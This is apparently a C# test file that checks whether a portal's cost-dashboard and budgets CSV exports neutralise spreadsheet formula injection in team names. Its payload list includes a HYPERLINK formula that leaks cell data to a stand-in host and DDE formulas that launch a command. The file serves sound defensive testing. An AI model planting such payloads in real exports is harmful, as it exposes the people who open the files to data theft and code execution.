using Portal.Web.Features.Costs;
using Portal.Web.Features.Costs.Budgets;

namespace Portal.Web.Tests.Hostile;

/// <summary>
/// Tried as an attacker: a team display name (any text up to 100 characters, set by an admin or synced from the identity
/// provider) that a spreadsheet would run as a formula when finance opens an export. The cost dashboards' CSV
/// (<see cref="CostCsv"/>) neutralises it, and so does the budgets page's CSV (<see cref="BudgetService.ToCsv"/>), which wrote it raw.
/// </summary>
public sealed class CsvFormulaInjectionTests
{
    private static readonly string[] Payloads =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Payments\")",
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
    ];

    [Fact]
    public void CostDashboardCsv_PrefixesEveryFormulaCellWithAQuote()
    {
        foreach (var payload in Payloads)
        {
            var csv = new CostCsv("team", "amount_usd").Row(payload, -12.5m).ToString();
            var row = csv.Split("\r\n")[1];
            row.TrimStart('"').ShouldStartWith("'", customMessage: row);
            row.ShouldEndWith(",-12.5");
        }
    }

    [Fact]
    public void BudgetsCsv_PrefixesATeamNameThatIsAFormula()
    {
        foreach (var payload in Payloads)
        {
            var basis = new ForecastBasis(0, 0, 10, 30, []);
            var line = new BudgetLine("payments", payload, 1000, 10, 20, 980, 1, "None", [], basis);
            var overview = new BudgetOverview("USD", "2026-12", DateTimeOffset.UnixEpoch, 10, 30, null, [line]);

            var row = BudgetService.ToCsv(overview).Split("\r\n")[1];
            var nameCell = row["2026-12,payments,".Length..];
            nameCell.TrimStart('"').ShouldStartWith("'", customMessage: row);
        }
    }
}
